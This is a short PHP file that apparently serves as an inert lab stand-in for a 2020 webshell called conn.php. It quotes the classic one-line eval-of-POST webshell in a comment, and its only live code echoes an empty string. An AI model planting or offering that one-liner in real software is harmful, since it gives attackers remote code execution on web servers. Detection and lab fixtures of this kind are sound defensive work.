<?php
/* edgewatch lab stand-in for a 2020 PHP webshell (conn.php); inert: the one-liner is quoted in this comment only.
   @eval($_POST['pass']);
*/
echo '';
